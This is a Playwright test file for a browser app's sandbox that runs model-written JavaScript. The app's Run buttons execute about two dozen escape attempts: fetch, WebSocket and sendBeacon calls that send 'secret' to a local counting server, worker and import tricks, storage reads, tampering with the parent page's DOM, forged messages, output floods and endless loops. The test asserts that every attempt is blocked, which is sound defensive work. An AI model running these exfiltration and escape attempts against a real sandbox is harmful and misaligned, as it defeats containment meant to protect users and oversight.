// run_code's sandbox attacked from inside: model-written code tries every way out it has, through the
// app's real Run buttons (the code arrives in a restored backup, as if a model had written it). A local
// server counts every connection, request and WebSocket upgrade: none may arrive.
import { writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Locator, Page } from '@playwright/test';
import { expect, openApp, test, waitForServiceWorker } from './fixtures.ts';

interface Counter {
  origin: string;
  /** Every TCP connection, request and upgrade that reached the server. */
  seen: string[];
  close: () => Promise<void>;
}

async function countingServer(): Promise<Counter> {
  const seen: string[] = [];
  const server: Server = createServer((req, res) => {
    seen.push(`${req.method} ${req.url}`);
    // Answers that would let each attempt succeed, were it allowed to leave.
    const script = req.url?.endsWith('.js');
    res.writeHead(200, {
      'Access-Control-Allow-Origin': '*',
      'Cross-Origin-Resource-Policy': 'cross-origin',
      'Content-Type': script ? 'text/javascript' : 'text/plain',
    });
    res.end(script ? 'postMessage("loaded")' : 'secret');
  });
  server.on('connection', () => seen.push('connection'));
  server.on('upgrade', (req, socket) => {
    seen.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    close: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

interface Attempt {
  name: string;
  /** Returns 'reached' if it got out; anything else throws. */
  code: string;
  /** The error it must fail with: proof it was stopped, and not by a mistake in the test's own code. */
  fails: RegExp;
}

function attempts(target: string, app: string): Attempt[] {
  const ws = target.replace('http:', 'ws:');
  const inBlobWorker = (source: string) =>
    `const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(source)}], { type: 'text/javascript' })));
const r = await new Promise((ok, no) => { w.onmessage = (e) => ok(e.data); w.onerror = (e) => no(new Error('worker: ' + e.message)); });
if (r !== 'reached') throw new Error(r);
return r;`;
  return [
    { name: 'fetch', code: `await fetch('${target}/fetch'); return 'reached';`, fails: /TypeError: Failed to fetch/ },
    {
      name: 'no-cors fetch with data in the URL',
      code: `await fetch('${target}/no-cors?data=secret', { mode: 'no-cors' }); return 'reached';`,
      fails: /TypeError: Failed to fetch/,
    },
    {
      name: 'synchronous XMLHttpRequest',
      code: `const x = new XMLHttpRequest(); x.open('GET', '${target}/xhr-sync', false); x.send(); return 'reached';`,
      fails: /NetworkError: Failed to execute 'send' on 'XMLHttpRequest'/,
    },
    {
      name: 'asynchronous XMLHttpRequest',
      code: `const x = new XMLHttpRequest(); x.open('GET', '${target}/xhr-async');
return await new Promise((ok, no) => { x.onload = () => ok('reached'); x.onerror = () => no(new Error('xhr failed')); x.send(); });`,
      fails: /xhr failed/,
    },
    {
      name: 'WebSocket',
      code: `const s = new WebSocket('${ws}/socket');
return await new Promise((ok, no) => { s.onopen = () => ok('reached'); s.onerror = () => no(new Error('socket failed')); });`,
      fails: /socket failed/,
    },
    {
      name: 'EventSource',
      code: `const s = new EventSource('${target}/events');
return await new Promise((ok, no) => { s.onopen = () => ok('reached'); s.onerror = () => no(new Error('events failed')); });`,
      fails: /events failed/,
    },
    {
      name: 'importScripts',
      code: `importScripts('${target}/import.js'); return 'reached';`,
      fails: /NetworkError: .*importScripts/,
    },
    {
      name: 'importScripts from the app itself',
      code: `importScripts('${app}sw.js'); return 'reached';`,
      fails: /NetworkError: .*importScripts/,
    },
    {
      name: 'dynamic import',
      code: `await import('${target}/module.js'); return 'reached';`,
      fails: /Failed to fetch dynamically imported module/,
    },
    {
      name: 'nested worker from the server',
      code: `new Worker('${target}/worker.js'); return 'reached';`,
      fails: /SecurityError: Failed to construct 'Worker'/,
    },
    {
      name: 'nested module worker from the server',
      code: `new Worker('${target}/worker.js', { type: 'module' }); return 'reached';`,
      fails: /SecurityError: Failed to construct 'Worker'/,
    },
    {
      name: 'blob: worker that fetches',
      code: inBlobWorker(
        `fetch('${target}/from-blob-worker').then(() => postMessage('reached'), (e) => postMessage('blob worker: ' + e));`,
      ),
      fails: /blob worker: TypeError: Failed to fetch/,
    },
    {
      name: 'blob: worker with a synchronous XMLHttpRequest',
      code: inBlobWorker(
        `try { const x = new XMLHttpRequest(); x.open('GET', '${target}/from-blob-xhr', false); x.send(); postMessage('reached'); } catch (e) { postMessage('blob worker: ' + e); }`,
      ),
      fails: /blob worker: NetworkError/,
    },
    {
      name: 'sendBeacon',
      code: `navigator.sendBeacon('${target}/beacon', 'secret'); return 'reached';`,
      fails: /navigator.sendBeacon is not a function/,
    },
    {
      name: 'image load',
      code: `const i = new Image(); i.src = '${target}/image.png'; return 'reached';`,
      fails: /Image is not defined/,
    },
    {
      name: 'image fetched for decoding',
      code: `await createImageBitmap(await (await fetch('${target}/bitmap.png')).blob()); return 'reached';`,
      fails: /TypeError: Failed to fetch/,
    },
    {
      name: 'fetch from the app itself',
      code: `await fetch('${app}index.html'); return 'reached';`,
      fails: /TypeError: Failed to fetch/,
    },
    {
      name: 'indexedDB',
      code: `await new Promise((ok, no) => { const r = indexedDB.open('forgeai'); r.onsuccess = ok; r.onerror = () => no(r.error); }); return 'reached';`,
      fails: /SecurityError: .*access to the Indexed Database API is denied/,
    },
    { name: 'Cache Storage', code: `await caches.keys(); return 'reached';`, fails: /caches is not defined/ },
    {
      name: 'localStorage',
      code: `localStorage.setItem('forgeai', 'x'); return 'reached';`,
      fails: /localStorage is not defined/,
    },
    {
      name: 'OPFS',
      code: `await navigator.storage.getDirectory(); return 'reached';`,
      fails: /Cannot read properties of undefined \(reading 'getDirectory'\)/,
    },
    {
      name: "the page's DOM",
      code: `parent.document.title = 'owned'; return 'reached';`,
      fails: /parent is not defined/,
    },
    {
      name: 'a message to the page',
      code: `postMessage({ type: 'done', result: 'forged' }); return 'reached';`,
      fails: /ReferenceError: postMessage is not defined/,
    },
  ];
}

/** A backup with one conversation whose assistant reply holds `blocks` as JavaScript code blocks. */
async function restoreReply(page: Page, blocks: string[]): Promise<Locator> {
  const now = Date.now();
  const text = blocks.map((code) => `\`\`\`js\n${code}\n\`\`\``).join('\n\n');
  const backup = {
    format: 'forgeai-backup',
    version: 1,
    exportedAt: new Date(now).toISOString(),
    conversations: [{ id: 1, title: 'Sandbox escapes', modelId: 'test', createdAt: now, updatedAt: now }],
    messages: [
      {
        id: 1,
        conversationId: 1,
        role: 'user',
        text: 'Try to get out',
        createdAt: now,
        modelId: 'test',
        status: 'done',
      },
      { id: 2, conversationId: 1, role: 'assistant', text, createdAt: now + 1, modelId: 'test', status: 'done' },
    ],
    personas: [],
    minds: [],
    designMemories: [],
    toolUses: [],
    settings: [],
  };
  const file = join(tmpdir(), `forgeai-sandbox-${now}-${Math.random().toString(36).slice(2)}.json`);
  await writeFile(file, JSON.stringify(backup));
  if (!(await page.getByRole('button', { name: 'Back up everything' }).isVisible()))
    await page.getByText('Export and backup').click();
  await page.getByLabel('Restore a backup…').setInputFiles(file);
  await expect(page.getByRole('status').filter({ hasText: 'Restored 1 conversation(s)' })).toBeVisible();
  const reply = page.getByRole('article', { name: 'Assistant' }).last();
  await expect(reply.getByRole('button', { name: /^Run code block/ })).toHaveCount(blocks.length);
  return reply;
}

interface Run {
  text: string;
  failed: boolean;
  /** From the click to the output on the page. */
  resultMs: number;
  /** The longest gaps between animation frames and between 10 ms timer ticks, over the same time. */
  maxFrameGapMs: number;
  maxTimerGapMs: number;
}

/** Clicks block `n`'s Run button and times it from inside the page, watching for stalls meanwhile. */
async function run(reply: Locator, n: number, mark = ''): Promise<Run> {
  const button = reply.getByRole('button', { name: `Run code block ${n}`, exact: true });
  return button.evaluate(async (element: HTMLElement, mark: string) => {
    const block = element.parentElement as HTMLElement;
    let lastFrame = performance.now();
    let lastTick = lastFrame;
    let maxFrameGapMs = 0;
    let maxTimerGapMs = 0;
    let watching = true;
    const frame = () => {
      const now = performance.now();
      maxFrameGapMs = Math.max(maxFrameGapMs, now - lastFrame);
      lastFrame = now;
      if (watching) requestAnimationFrame(frame);
    };
    requestAnimationFrame(frame);
    const timer = setInterval(() => {
      const now = performance.now();
      maxTimerGapMs = Math.max(maxTimerGapMs, now - lastTick);
      lastTick = now;
    }, 10);
    const output = () => block.querySelector<HTMLElement>('[data-testid="code-output"]');
    const started = performance.now();
    console.timeStamp(`start ${mark}`); // marks for the trace (see ownWork)
    element.click();
    await new Promise<void>((resolve) => {
      const observer = new MutationObserver(() => {
        if (!output()) return;
        observer.disconnect();
        resolve();
      });
      observer.observe(block, { childList: true, subtree: true });
    });
    const resultMs = performance.now() - started;
    await new Promise((resolve) => setTimeout(resolve, 300));
    console.timeStamp(`end ${mark}`);
    watching = false;
    clearInterval(timer);
    const shown = output() as HTMLElement;
    return {
      text: shown.textContent ?? '',
      failed: shown.classList.contains('error'),
      resultMs,
      maxFrameGapMs,
      maxTimerGapMs,
    };
  }, mark);
}

interface TraceEvent {
  name: string;
  pid: number;
  tid: number;
  /** Wall clock and the thread's own CPU clock, in µs. */
  ts: number;
  tts?: number;
  args?: { data?: { message?: string } };
}

/**
 * The page's own work during a run: the most main-thread CPU time between two timer tasks (or the
 * run's edges), from Chromium's trace of the page's main thread. Unlike the wall-clock gaps, it leaves
 * out the time the OS ran other processes or the sandbox's own threads instead.
 */
async function ownWork(page: Page, browser: Browser, action: (mark: string) => Promise<Run>) {
  // Marks of this run only: a trace can still hold events from the one before.
  const mark = `sandbox run ${Date.now()}-${Math.random()}`;
  await browser.startTracing(page, { categories: ['devtools.timeline'] });
  const result = await action(mark);
  const events = (JSON.parse((await browser.stopTracing()).toString()) as { traceEvents: TraceEvent[] }).traceEvents;
  const find = (message: string) => events.find((e) => e.name === 'TimeStamp' && e.args?.data?.message === message);
  const [start, end] = [find(`start ${mark}`), find(`end ${mark}`)];
  if (start?.tts === undefined || end?.tts === undefined) throw new Error('the trace has no marks of the run');
  const ticks = events
    .filter((e) => e.name === 'TimerFire' && e.pid === start.pid && e.tid === start.tid && e.tts !== undefined)
    .filter((e) => e.ts > start.ts && e.ts < end.ts)
    .sort((a, b) => a.ts - b.ts);
  let mostCpuMs = 0;
  for (const [index, tick] of [...ticks, end].entries()) {
    const previous = index === 0 ? start : ticks[index - 1];
    mostCpuMs = Math.max(mostCpuMs, ((tick.tts ?? 0) - (previous.tts ?? 0)) / 1000);
  }
  return { ...result, mostCpuMs };
}

/** Messages the page's window receives (the sandbox must never send one). */
async function recordWindowMessages(page: Page) {
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(globalThis, { windowMessages: seen });
    addEventListener('message', (event) => seen.push(String(event.origin)));
  });
}

async function tryEveryWayOut(page: Page, counter: Counter) {
  const app = await page.evaluate(() => new URL('.', location.href).href);
  const list = attempts(counter.origin, app);
  const reply = await restoreReply(page, [...list.map((a) => a.code), 'return 6 * 7;']);
  for (const [index, attempt] of list.entries()) {
    const result = await run(reply, index + 1);
    expect.soft(result.failed, `${attempt.name}: ${result.text}`).toBe(true);
    expect.soft(result.text, attempt.name).toMatch(attempt.fails);
  }
  // The same sandbox still runs code that stays inside.
  expect(await run(reply, list.length + 1)).toMatchObject({ text: '→ 42', failed: false });
  expect(counter.seen, 'what reached the counting server').toEqual([]);
  expect(await page.evaluate(() => (globalThis as unknown as { windowMessages: string[] }).windowMessages)).toEqual([]);
  expect(await page.title()).not.toBe('owned');
  // Every run's frame is gone (and its worker with it).
  await expect(page.locator('iframe')).toHaveCount(0);
  // The counter is reachable from this browser: the page itself (allowed local addresses) gets through.
  await page.evaluate((url) => fetch(url, { mode: 'no-cors' }), `${counter.origin}/control`);
  await expect.poll(() => counter.seen.filter((entry) => entry.startsWith('GET'))).toEqual(['GET /control']);
}

test.describe('without a service worker', () => {
  test.use({ serviceWorkers: 'block' });

  test('model-written code reaches no server, no storage and not the page', async ({ page }) => {
    const counter = await countingServer();
    try {
      await recordWindowMessages(page);
      await openApp(page);
      await tryEveryWayOut(page, counter);
    } finally {
      await counter.close();
    }
  });

  test('floods end at the output limit and an endless loop at the time limit; the page never stalls', async ({
    page,
    browser,
  }) => {
    await openApp(page);
    const reply = await restoreReply(page, [
      "for (;;) console.log('x'.repeat(1000));",
      "for (;;) console.log('x');",
      "for (;;) postMessage('x'.repeat(1000));",
      // 100 KB messages, about 2,000 a second, that never leave the sandbox (a trace of many more would
      // be too big to read), and two busy threads until the time limit.
      `const flood = "const big = 'x'.repeat(100000); for (;;) { postMessage(big); const t = Date.now(); while (Date.now() - t < 1); }";
const w = new Worker(URL.createObjectURL(new Blob([flood])));
w.onmessage = () => {};
await new Promise(() => {});`,
      'while (true) {}',
    ]);
    const limits = [
      { text: /^(x{1000}\n){4}Stopped: the output passed its limit \(200 lines or 4000 characters\)\.$/ },
      { text: /^(x\n){200}Stopped: the output passed its limit/ },
      { text: /^ReferenceError: postMessage is not defined/ },
      { text: /^Stopped after 5 s \(the time limit\)\.$/, atLeastMs: 5000 },
      { text: /^Stopped after 5 s \(the time limit\)\.$/, atLeastMs: 5000 },
    ];
    for (const [index, expected] of limits.entries()) {
      const { text, failed, ...timing } = await ownWork(page, browser, (mark) => run(reply, index + 1, mark));
      const figures = Object.entries(timing).map(([name, ms]) => `${name} ${Math.round(ms)}`);
      test.info().annotations.push({ type: `block ${index + 1}`, description: figures.join(', ') });
      expect(failed).toBe(true);
      expect(text).toMatch(expected.text);
      // The time limit holds, within 0.5 s.
      expect(timing.resultMs).toBeGreaterThanOrEqual(expected.atLeastMs ?? 0);
      expect(timing.resultMs).toBeLessThanOrEqual(5500);
      // The page never stalls over 100 ms by its own work. Wall-clock gaps between frames and ticks are
      // recorded but not asserted: on this loaded 2-core machine an idle page with no sandbox shows gaps
      // of 100-290 ms, and Chromium's trace shows tasks of 1 ms CPU taking 266 ms (the OS ran others).
      // With no output limit the page used 0.9-1.9 s of CPU between two ticks (gaps of 3.4-5.7 s).
      expect(timing.mostCpuMs, 'the most CPU the page used between two timer ticks').toBeLessThanOrEqual(100);
    }
    await expect(page.locator('iframe')).toHaveCount(0);
    // The app is still usable.
    await page.getByRole('textbox', { name: 'Message' }).fill('still here');
    await expect(page.getByRole('textbox', { name: 'Message' })).toHaveValue('still here');
  });
});

test('with the service worker in control (its headers), and offline', async ({ page, context }) => {
  const counter = await countingServer();
  try {
    await recordWindowMessages(page);
    await openApp(page);
    await waitForServiceWorker(page);
    await page.reload();
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
    const sandboxPage = page.waitForResponse((response) => response.url().endsWith('/sandbox.html'));
    await tryEveryWayOut(page, counter);
    const response = await sandboxPage;
    expect(response.fromServiceWorker()).toBe(true);
    const headers = response.headers();
    expect(headers['content-security-policy']).toMatch(/^sandbox allow-scripts; default-src 'none'; /);
    expect(headers['content-security-policy']).toContain("connect-src 'none'");
    expect(headers['cross-origin-embedder-policy']).toBe('require-corp');

    await context.setOffline(true);
    const reply = await restoreReply(page, ["console.log('offline'); return 1 + 1;", 'return 3;']);
    expect(await run(reply, 1)).toMatchObject({ text: 'offline\n→ 2', failed: false });
  } finally {
    await counter.close();
  }
});
